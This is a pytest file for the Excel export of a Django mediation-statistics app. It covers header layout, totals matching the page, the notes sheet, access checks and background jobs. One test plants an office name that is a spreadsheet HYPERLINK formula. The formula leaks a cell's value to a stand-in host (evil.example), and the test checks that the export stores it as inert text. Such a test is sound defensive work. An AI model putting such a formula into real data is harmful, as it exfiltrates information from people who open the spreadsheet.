"""Excel export of the report forms: merged headers, numbers as on the page, the 说明 sheet."""

import re
from datetime import date
from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from sifa.mediation.tests.factories import make_case, make_committee
from sifa.reports import definitions
from sifa.reports.excel_forms import FIRST_DATA_ROW, HEADER_TOP, PERCENT_FORMAT
from sifa.stats import registry

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("mediation_test_form")]

KEY = "test.mediation_form"  # conftest.TEST_FORM


@pytest.fixture
def cases(cast):
    """March 2026: 2 邻里 + 1 合同 in township A1; February: 1 邻里 (for a 环比)."""
    committee = make_committee(cast.township_a1)
    for day, kind in ((3, "neighbourhood"), (9, "neighbourhood"), (20, "contract")):
        make_case(cast.township_clerk, committee, received_on=date(2026, 3, day), dispute_type=kind)
    make_case(cast.township_clerk, committee, received_on=date(2026, 2, 2))
    return committee


def download(client, url):
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "attachment" in response["Content-Disposition"]
    return load_workbook(BytesIO(response.content))


def form_url(office, key=KEY, **extra):
    params = "&".join(f"{k}={v}" for k, v in {"office": office.pk, **extra}.items())
    return f"{reverse('reports:form', args=[key])}?{params}"


def page_total_row(client, office) -> list[str]:
    html = client.get(form_url(office, month="2026-03")).content.decode()
    row = re.search(r'<tr class="sifa-total-row"[^>]*>(.*?)</tr>', html, re.S).group(1)
    return re.findall(r'<td class="num[^"]*">\s*<(?:a|span) [^>]*>([^<]*)<', row)


def test_form_workbook_layout(login, cast, cases):
    client = login(cast.county_supervisor)
    book = download(client, form_url(cast.county_a, month="2026-03", format="xlsx"))
    assert book.sheetnames == ["人民调解工作情况月报表", "说明"]
    sheet = book["人民调解工作情况月报表"]
    assert sheet["A1"].value == "人民调解工作情况月报表"
    assert cast.county_a.name in sheet["A2"].value and "2026年3月" in sheet["A2"].value
    merged = {str(r) for r in sheet.merged_cells.ranges}
    # 受理纠纷: 合计 + 邻里 + 合同 (the types with records) × 4 measures = 12 columns.
    assert sheet.cell(HEADER_TOP, 2).value == "受理纠纷（件）"
    assert "B3:M3" in merged
    assert sheet.cell(HEADER_TOP + 1, 2).value == "合计" and "B4:E4" in merged
    assert [sheet.cell(HEADER_TOP + 1, c).value for c in (6, 10)] == ["合同纠纷", "邻里纠纷"]
    assert "F4:I4" in merged and "J4:M4" in merged
    # A column without a breakdown: the heading runs down over the sub-column row.
    assert sheet.cell(HEADER_TOP, 14).value == "调结（件）" and "N3:Q4" in merged
    assert [sheet.cell(HEADER_TOP + 2, c).value for c in range(2, 6)] == [
        "本月",
        "本年累计",
        "同比",
        "环比",
    ]
    assert "A3:A5" in merged and "A1:" in " ".join(merged)  # the title spans the table
    assert sheet.freeze_panes == f"B{FIRST_DATA_ROW}"
    # Rows: 合计 (bold), 本级, then the townships.
    labels = [sheet.cell(r, 1).value for r in range(FIRST_DATA_ROW, FIRST_DATA_ROW + 4)]
    assert labels == ["合计", f"{cast.county_a.name}本级", "甲一镇司法所", "甲二镇司法所"]
    assert sheet.cell(FIRST_DATA_ROW, 1).font.b
    total = [sheet.cell(FIRST_DATA_ROW, c).value for c in range(2, 6)]
    assert total == [3, 4, "—", 200]  # 本月 3, 本年 4, 同比 no base (—), 环比 +200%
    assert sheet.cell(FIRST_DATA_ROW, 5).number_format == PERCENT_FORMAT
    assert isinstance(sheet.cell(FIRST_DATA_ROW, 2).value, int)
    assert sheet.cell(FIRST_DATA_ROW, 2).hyperlink.target.startswith("http://testserver/stats/")


def test_total_row_equals_the_page(login, cast, cases):
    client = login(cast.county_supervisor)
    page = page_total_row(client, cast.county_a)
    book = download(client, form_url(cast.county_a, month="2026-03", format="xlsx"))
    sheet = book.worksheets[0]
    values = [sheet.cell(FIRST_DATA_ROW, c).value for c in range(2, 2 + len(page))]
    assert len(page) == sheet.max_column - 1
    for shown, value in zip(page, values, strict=True):
        if shown == "—":
            assert value == "—"
        elif shown.endswith("%"):
            assert float(shown.rstrip("%")) == pytest.approx(float(value))
        else:
            assert float(shown) == pytest.approx(float(value))


def test_notes_sheet_gives_key_label_and_definition(login, cast, cases):
    client = login(cast.county_supervisor)
    book = download(client, form_url(cast.county_a, month="2026-03", format="xlsx"))
    notes = book["说明"]
    rows = [[c.value for c in row] for row in notes.iter_rows()]
    header = next(i for i, r in enumerate(rows) if r[1] == "指标编码")
    keys = [r[1] for r in rows[header + 1 :]]
    assert keys == definitions.get_form(KEY).indicator_keys()
    accepted = rows[header + 1]
    assert accepted[2:4] == ["受理纠纷", "受理调解纠纷数"]
    assert accepted[4] == str(registry.get("mediation.cases_accepted").definition)
    assert all(r[4] for r in rows[header + 1 :])  # every column has its 口径


def test_report_set_has_one_sheet_per_form(login, cast, cases):
    client = login(cast.city_leader)
    url = f"{reverse('reports:form_set')}?office={cast.city.pk}&month=2026-03"
    book = download(client, url)
    titles = [str(f.title) for f in definitions.all_forms()]
    # One sheet per form (two forms of one title get "(2)"), then 说明.
    assert len(book.sheetnames) == len(titles) + 1 and book.sheetnames[-1] == "说明"
    assert set(titles) <= set(book.sheetnames)
    mediation = book["人民调解工作情况月报表"]
    assert mediation.cell(FIRST_DATA_ROW, 2).value == 3
    orgs = book["机构队伍情况月报表"]
    assert [orgs.cell(HEADER_TOP + 2, c).value for c in (2, 3)] == ["本月", "同比"]


def test_report_set_access(login, cast, cases):
    url = f"{reverse('reports:form_set')}?office={cast.county_a.pk}&month=2026-03"
    assert login(cast.township_clerk).get(url).status_code == 404
    bad = f"{reverse('reports:form_set')}?office={cast.city.pk}&month=2026-3x"
    response = login(cast.city_leader).get(bad)
    assert response.status_code == 400
    assert "月份格式应为" in response.content.decode()


def test_an_office_name_that_looks_like_a_formula_is_exported_as_text(login, cast, cases):
    # Office names are typed by administrators (and imported from their sheets).
    name = '=HYPERLINK("http://evil.example/?"&B6,"甲一镇")'
    cast.township_a1.name = name
    cast.township_a1.save()

    book = download(
        login(cast.county_supervisor), form_url(cast.county_a, month="2026-03", format="xlsx")
    )

    sheet = book["人民调解工作情况月报表"]
    (cell,) = [c for (c,) in sheet.iter_rows(min_col=1, max_col=1) if c.value == name]
    assert cell.data_type == "s" and cell.quotePrefix


def test_report_set_of_a_large_office_is_a_background_job(login, cast, cases, settings):
    from sifa.core.models import Job

    settings.SIFA_REPORT_BACKGROUND_OFFICES = 3
    client = login(cast.city_leader)
    county = f"{reverse('reports:form_set')}?office={cast.county_b.pk}&month=2026-03"
    assert client.get(county)["Content-Disposition"].startswith("attachment")  # few offices
    url = f"{reverse('reports:form_set')}?office={cast.city.pk}&month=2026-03"
    response = client.get(url)
    job = Job.objects.get(user=cast.city_leader)
    assert response["Location"] == job.get_absolute_url()
    assert job.status == Job.Status.SUCCEEDED, job.message
    content = client.get(reverse("jobs:download", args=[job.pk])).content
    book = load_workbook(BytesIO(content))
    assert book["人民调解工作情况月报表"].cell(FIRST_DATA_ROW, 2).value == 3
